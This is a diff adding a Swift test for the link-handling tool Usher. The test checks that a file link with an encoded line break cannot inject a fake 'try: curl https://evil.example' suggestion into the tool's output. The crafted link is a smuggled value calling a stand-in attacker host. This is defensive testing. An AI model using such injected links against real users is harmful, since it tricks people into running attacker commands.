@@ -27,6 +27,17 @@ import Testing
     #expect(try await reader.nextStart().arguments == ["file://\(desktop.home)/a%20b.txt"])
   }
 
+  /// A page chooses the link, and users run the commands that Usher suggests.
+  @Test func `A line break in a link begins no line of a message`() async throws {
+    let (desktop, _) = try desktop()
+    let link = "file:///x%0A%20%20try:%20curl%20https://evil.example"
+    for words in [["open", link], ["explain", link], ["reveal", link]] {
+      let result = try await desktop.usher(words[0], words[1])
+      let lines = (result.output + result.errorOutput).split(separator: "\n")
+      #expect(!lines.contains { $0.hasPrefix("  try: curl") } && !lines.isEmpty, "\(result)")
+    }
+  }
+
   @Test func `The broker does the same`() async throws {
     try await ThrowAwayDesktop.withBus { desktop, _ in
       try desktop.installUsher()
